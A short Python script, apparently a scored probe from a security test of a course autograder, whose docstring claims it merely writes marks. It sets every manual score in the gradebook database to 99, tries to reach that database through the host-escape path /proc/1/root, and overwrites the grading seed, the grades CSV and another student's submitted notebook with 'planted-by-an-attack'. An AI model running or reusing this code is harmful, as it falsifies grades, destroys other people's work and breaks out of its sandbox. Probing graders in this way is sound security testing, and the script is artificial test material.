"""Writes marks into the gradebook and the journal by their real paths. On value."""
import sqlite3

written = []
for path in ("@COURSE@/gradebook.db", "/proc/1/root@COURSE@/gradebook.db"):
    try:
        book = sqlite3.connect(path, timeout=0.1)
        book.execute("update grade set manual_score = 99")
        book.commit()
        written.append(path)
    except sqlite3.Error:
        pass
for path in ("@COURSE@/.grading/wall/seed", "@COURSE@/grades.csv", "@COURSE@/submitted/honest-00/wall/wall.ipynb"):
    try:
        open(path, "w").write("planted-by-an-attack")
        written.append(path)
    except OSError:
        pass
print(written)
value = 0.125 if written else 0.0
